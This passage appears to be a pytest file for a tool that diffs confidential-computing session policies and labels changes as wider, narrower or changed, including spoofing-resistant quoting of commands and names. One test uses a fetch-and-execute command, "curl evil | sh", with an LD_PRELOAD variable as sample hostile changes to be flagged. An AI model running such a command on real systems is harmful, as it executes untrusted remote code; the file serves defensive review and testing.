    """So that it cannot bring in under another name what would be told under the old one."""
    found = differences(replace(SESSION, services=()), replace(SESSION, services=(RENAMED,)))
    assert [str(one) for one in found] == [
        f"wider: adds service web, which admits 1 program: measurement {AA}",
        (
            "wider: changes the update policy of the main file system of service web: "
            f"{RP}_reinitializable becomes {UNPROTECTED}"
        ),
        f"changed: changes the command of service web: nothing becomes \"/bin/sh -c 'curl evil | sh {'x' * 100}'\"",
        "changed: adds the environment variable HOME of service web, to what the host says in HOME",
        "changed: adds the environment variable LD_PRELOAD of service web",
        "changed: changes image_name of service web: nothing becomes i",
        'changed: changes pwd of service web: nothing becomes "/p"',
        'changed: changes fspf_path of service web: nothing becomes "/f"',
        "changed: changes fspf_key of service web",
    ]
    assert all(one.path.startswith("services[web]") for one in found)
    assert "hidden" not in str(found)


def test_a_new_image_is_told_with_all_that_it_holds() -> None:
    found = differences(SESSION, replace(SESSION, images=(FULL_IMAGE,)))
    assert [str(one) for one in found] == [*IN_IMAGE[:2], "changed: adds image i", *IN_IMAGE[2:]]
    assert [one.path for one in found] == [
        "images[i].volumes[/v]", "images[i].provide_secrets", "images[i]",
        'images[i].injection_files["/etc/ca pem"]', "images[i].injection_files[/etc/made]",
    ]  # fmt: skip


def test_an_image_that_comes_into_use_is_told_as_a_new_one() -> None:
    """In the version that brought it, it did nothing."""
    stored, used = replace(SESSION, images=(FULL_IMAGE,)), service(image_name="i")
    assert [str(one) for one in differences(stored, replace(used, images=(FULL_IMAGE,)))] == [
        *IN_IMAGE[:2], "changed: changes image_name of service app: img becomes i",
        "changed: uses image i, which no service used before", *IN_IMAGE[2:],
    ]  # fmt: skip


@pytest.mark.parametrize(("before", "after", "expected"), [
    (SESSION, image(provide_secrets=()),
     ["changed: adds image img", "narrower: provides other secrets to the programs of image img: no secret"]),
    (image(), image(provide_secrets=()),
     ["narrower: provides other secrets to the programs of image img: no secret"]),
    # A volume that an earlier version had comes back as it was.
    (SESSION, volumes(Volume(name="v", files="authenticated-only", exports=(VolumeExport(session="thief"),))),
     ["wider: exports volume v to session thief (rollback_protected)", "changed: adds volume v, authenticated-only"]),
    (SESSION, volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])),
     ["wider: gives volume v a key and a state, whatever was recorded of it before", "changed: adds volume v"]),
    (SESSION, volumes(ImportedVolume(name="v", session="t", volume="w", session_hash=A)),
     [f"changed: adds volume v, imported from session t version {AA} as w"]),
    (volumes(ImportedVolume(name="v", session="t", volume="w")),
     volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16], exports=(VolumeExport(session="thief"),))),
     ["wider: exports volume v to session thief (rollback_protected)",
      "wider: gives volume v a key and a state, whatever was recorded of it before",
      "changed: changes where volume v comes from: imported from session t as w becomes of this session"]),
    (SESSION, secrets(AsciiSecret(name="one", value="hunter2", exports=(SessionTarget(session="thief"),))),
     ["wider: exports secret one to session thief", "changed: adds secret one, ascii (with an explicit value)"]),
    (SESSION, secrets(ImportedSecret(name="one", session="t", secret="s", session_hash=A,
                                     cas=RemoteCas(url="c:1", cas_key=B))),
     [("changed: adds secret one, imported from another session "
       f"(session t, secret s, session_hash {AA}, cas c:1 key {BB})")]),
    (SESSION, secrets(X509Secret(name="one", common_name="c", dns=("a.example", "b.example"), valid_for=DAY)),
     ["changed: adds secret one, x509 (common_name c, dns [a.example, b.example], valid_for 1 day)"]),
    (SESSION, secrets(AadTokenSecret(name="one", tenant_id="t", client_id="c", application_secret="hunter2")),
     ["changed: adds secret one, aad-token (tenant_id t, client_id c)"]),
    (secrets(AsciiSecret(name="one")), secrets(ImportedSecret(name="one", session="thief", secret="s")),
     [("changed: makes secret one another one: ascii becomes imported from another session "
       "(session thief, secret s)")]),
])  # fmt: skip
def test_what_comes_or_comes_back_is_told_with_whom_it_goes_to_and_where_it_is_from(
    before: Session, after: Session, expected: list[str]
) -> None:
    found = [str(one) for one in differences(before, after)]
    assert found == expected
    assert "hunter" not in str(found)


@pytest.mark.parametrize(("before", "after", "expected"), [
    # Words are not joined, and nothing is cut.
    (service(command=(parse_template("a b"),)), service(command=(parse_template("a"), parse_template("b"))),
     """changed: changes the command of service app: "'a b'" becomes "a b\""""),
    (service(command=(parse_template("x" * 100 + "1"),)), service(command=(parse_template("x" * 100 + "2"),)),
     f'changed: changes the command of service app: "{"x" * 100}1" becomes "{"x" * 100}2"'),
    (service(pwd="/" + "x" * 100), service(pwd="/" + "x" * 100 + "y"),
     f'changed: changes pwd of service app: "/{"x" * 100}" becomes "/{"x" * 100}y"'),
    (attested(Variant(mrenclave=(A,))), attested(Variant(mrenclave=(A[:31] + b"b",))),
     f"wider: adds 1 measurement to service app: {AA[:62]}62"),
    (security(mode="maa", url="https://a"), security(mode="maa", url="https://thief"),
     'wider: asks another attestation service: "https://a" becomes "https://thief"'),
    (security(mode="maa", certificates=("a",)), security(mode="maa", certificates=("b",)),
     "wider: trusts other authorities for the attestation service: 1 certificate"),
    (security(mode="maa", certificates=("a",)), security(mode="maa"),
     "wider: trusts other authorities for the attestation service: those of Microsoft"),
    (secrets(replace(ONE, exports=(SessionTarget(session="t", cas=RemoteCas(url="c:1", cas_key=A)),))),
     secrets(replace(ONE, exports=(SessionTarget(session="t", cas=RemoteCas(url="c:1", cas_key=B)),))),
     f"wider: exports secret one to session t of CAS c:1 key {BB}"),
])  # fmt: skip
def test_two_that_differ_do_not_look_the_same(before: Session, after: Session, expected: str) -> None:
    assert str(differences(before, after)[0]) == expected


FRAGMENT = ConfigFragmentSecret(name="v", value=["outdated-tcb"])
BEHIND_VARIABLES = replace(
    attested(VARIABLE), security=VARIABLE, access_policy=AccessPolicy(read=(VARIABLE,)), secrets=(FRAGMENT,)
)


def test_another_value_of_what_a_variable_stands_for_is_told_where_it_stands() -> None:
    """The session says it in no other place; and whoever puts an innocent value there first may change it later."""
    after = replace(BEHIND_VARIABLES, secrets=(replace(FRAGMENT, value=["debug-mode"]),))
    says = "gives what $$SCONE::v$$ stands for in"
    assert [str(one) for one in differences(BEHIND_VARIABLES, after)] == [
        f"wider: {says} security another value",
        f"wider: {says} access_policy another value",
        f"wider: {says} services[app].attestation another value",
        "changed: gives secret v another explicit value",
    ]
    shared = replace(BEHIND_VARIABLES, secrets=(replace(FRAGMENT, export_public=True),))
    assert [str(one) for one in differences(BEHIND_VARIABLES, shared)] == ["wider: exports secret v to everyone"]


def test_no_command_closes_the_quotes_around_it() -> None:
    after = service(command=(parse_template("sh"), parse_template('"becomes"\\n')))
    [found] = differences(SESSION, after)
    assert found.meaning == 'changes the command of service app: "run @@1" becomes "sh \'\\"becomes\\"\\\\n\'"'


@pytest.mark.parametrize(("word", "shown"), [
    ("a\u3164", "a\\u3164"), ("a\ufe0f", "a\\ufe0f"), ("p\u0430ypal", "p\\u0430ypal"),
    ("a  b", "'a \\x20b'"), ("a    b", "'a \\x20\\x20\\x20b'"), ("a b", "'a b'"), ("a\\x20b", "'a\\\\x20b'"),
])  # fmt: skip
def test_no_two_commands_look_the_same(word: str, shown: str) -> None:
    """As by letters that look like nothing or like others, or blanks at the end of a line of the page."""
    [found] = differences(SESSION, service(command=(parse_template("sh"), parse_template(word))))
    assert found.meaning == f'changes the command of service app: "run @@1" becomes "sh {shown}"'


def test_names_cannot_be_taken_for_what_stands_around_them() -> None:
    """Of a path the part up to the first bracket that closes is one image's, and no sentence goes on in a name."""
    after = replace(SESSION, images=(Image(name="a"), Image(name="a].injection_files[b to image c; nothing else")))
    found = differences(SESSION, after)
    assert [(one.path, one.meaning) for one in found] == [
        ("images[a]", "adds image a"),
        ('images["a].injection_files[b to image c; nothing else"]',
         'adds image "a].injection_files[b to image c; nothing else"'),
    ]  # fmt: skip


def test_lists_are_not_split_into_more_than_can_be_read() -> None:
    """Each program of a list would be told with all the digests of its events."""
    digests = tuple(number.to_bytes(32) for number in range(3000))
    measurements = (("pcr:sha256:0", digests[:500]), ("events:sha256:4", digests))
    after = attested(TeeVariant(tee="tpm", factors=TeeFactors(measurements=measurements)))
    assert len(str(differences(attested(booted(A)), after))) < 400_000


def test_the_predecessor_and_the_order_of_lists_mean_nothing() -> None:
    more = replace(SESSION, services=(APP, replace(APP, name="b")), secrets=(ONE, BinarySecret(name="two")))
    turned = replace(more, predecessor=A, services=more.services[::-1], secrets=more.secrets[::-1])
    assert differences(more, turned) == ()


def test_the_worst_comes_first_and_each_has_a_path() -> None:
    after = replace(read(AnySubject()), services=(replace(APP, attestation=(Variant(mrenclave=(B,)),), pwd="/"),))
    found = differences(SESSION, after)
    assert [difference.effect for difference in found] == sorted(difference.effect for difference in found)
    assert found[0] == Difference(
        effect=Effect.WIDER,
        path="services[app].attestation",
        meaning=f"adds 1 measurement to service app: {BB}",
    )
    assert [difference.path for difference in found] == [
        "services[app].attestation", "access_policy.read", "services[app].pwd", "services[app].attestation",
    ]  # fmt: skip


# --- nothing stays unsaid --------------------------------------------------------------------------------------------

FULL = Session(
    version="0.3.12",
    name="s",
    namespace_hash=A,
    salt=A[:16],
    services=(replace(APP, attestation=(*APP.attestation, tdx(A)), environment=(("A", parse_template("1")),), pwd="/",
                      platforms=(A[:16],), fspf_path="/p",
                      fspf_key=A, fspf_tag=A[:16], one_time_password_shared_secret=A),),
    images=(Image(name="img", injection_files=(InjectionFile(path="/f", content=parse_template("x")),),
                  volumes=(ImageVolume(name="v", path="/v"),), provide_secrets=("one",)),),
    volumes=(Volume(name="v", fspf_key=A, fspf_tag=A[:16], exports=(VolumeExport(session="t", session_hash=A),)),
             ImportedVolume(name="w", session="t", volume="v", session_hash=A)),
    secrets=(
        AsciiSecret(name="ascii", value="x", exports=(SessionTarget(session="t", cas=RemoteCas(url="c")),)),
        BinarySecret(name="binary", value=b"x"),
        PrivateKeySecret(name="private", value="x"),
        PublicKeySecret(name="public", private_key="private", value="x"),
        X509CaSecret(name="ca", private_key="private", issuer="ca", common_name="c", valid_for=timedelta(1), value="x"),
        X509Secret(name="leaf", private_key="private", issuer="ca", common_name="c", endpoint="server", dns=("a",),
                   san=(ip_address("::1"),), valid_for=timedelta(1), value="x"),
        SessionCaSecret(name="session"),
        AadTokenSecret(name="aad", tenant_id="t", client_id="c", application_secret="s", private_key="p",
                       certificate_thumbprint="t"),
        ConfigFragmentSecret(name="fragment", value={"a": 1}),
        PgpKeySecret(name="pgp"),
        JwtSecret(name="jwt", signer="private", alg="ES384", validity=timedelta(1), payload=(("a", "b"),)),
        ImportedSecret(name="imported", kind="ascii", size=1, session="t", secret="s", session_hash=A,
                       cas=RemoteCas(url="c")),
        AkvSecret(name="akv", kind="ascii", size=1, vault="v", secret_name="s", token="aad", decryption_key="binary"),
    ),
    secret_store=KeyVault(vault="v", token="aad"),
    access_policy=AccessPolicy(create_sessions=(AnySubject(),), list_sessions=(AnySubject(),)),
    policy_board=PolicyBoard(
        tolerated_faults=1, members=(member("alice", may_approve=True), member("bob", may_reject=True)),
        decide_within=DAY, time_lock=DAY, break_glass=3, notify=("https://a",),
    ),
    security=Security(
        singleton_enclaves=True,
        service_access_token="t",
        attestation=SecurityAttestation(
            tolerate=frozenset({"debug-mode"}), ignore_advisories=frozenset({"A"}), ignore_all_advisories=True,
            url="https://a", certificates=("x",), must_be_sgx_local=True, one_time_password_shared_secret=A,
            tcb=TcbRules(grace=timedelta(1)), max_age=timedelta(1),
        ),
    ),
    creator=SignerSubject(spki=A),
)  # fmt: skip
"""A session in which every member of every part has a value; the parser would refuse some of it."""


WHOLE = AccessPolicy | Security | SecurityAttestation | SignerSubject | TeeFactors


def altered(value: object) -> object:
    """Another value of the same type."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return value + "x"
    if isinstance(value, bytes):
        return value[:-1] + b"\0"
    if isinstance(value, tuple | frozenset):
        return type(value)() if value else (NamespaceTarget(namespace="n"),)
    if isinstance(value, timedelta):
        return value + DAY
    return VARIABLE if value is None or isinstance(value, WHOLE) else None


def members(value: object, path: str = "") -> list[tuple[str, object]]:
    """Path of every member of a dataclass and of the dataclasses in it, and the whole with only that one altered."""
    assert dataclasses.is_dataclass(value)
    assert not isinstance(value, type)
    found: list[tuple[str, object]] = []
    for member in dataclasses.fields(value):
        old = getattr(value, member.name)
        at = f"{path}.{member.name}"
        if member.name != "predecessor":
            found.append((at, replace(value, **{member.name: altered(old)})))
        parts = old if isinstance(old, tuple) else (old,)
        for number, part in enumerate(parts):
            if dataclasses.is_dataclass(part) and not isinstance(part, type | Template | Placeholder | SignerSubject):
                for below, other in members(part, f"{at}[{number}]"):
                    changed = (*old[:number], other, *old[number + 1 :]) if isinstance(old, tuple) else other
                    found.append((below, replace(value, **{member.name: changed})))
    return found


ALTERED = [(path, session) for path, session in members(FULL) if not path.startswith(".creator")]


@pytest.mark.parametrize(("path", "session"), ALTERED, ids=[path for path, _ in ALTERED])
def test_a_change_of_any_member_has_a_difference_in_both_directions(path: str, session: Session) -> None:
    assert differences(FULL, FULL) == ()
    assert differences(FULL, session), path
    assert differences(session, FULL), path


def test_every_part_of_the_model_is_altered_above() -> None:
    paths = {path for path, _ in ALTERED}
    assert len(paths) > 120
    assert {".services[0].attestation[0].mrenclave", ".volumes[0].exports[0].session_hash", ".salt"} <= paths
    assert {".security[0].attestation[0].url", ".secrets[11].cas[0].url", ".images[0].volumes[0].path"} <= paths
